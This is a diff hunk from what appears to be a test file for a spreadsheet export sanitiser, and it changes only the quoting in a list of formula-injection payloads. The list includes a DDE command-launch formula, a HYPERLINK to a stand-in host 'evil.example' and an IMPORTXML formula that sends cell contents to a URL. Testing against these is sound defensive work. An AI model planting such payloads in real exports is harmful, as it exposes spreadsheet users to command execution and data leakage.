@@ -13,14 +13,14 @@ from components.export import neutralize, to_csv, to_xlsx
 
 PAYLOADS = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example\",\"click\")",
+    '=HYPERLINK("http://evil.example","click")',
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
     "\t=1+1",
     "\r=1+1",
     "=cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
     "@@",
 ]
 
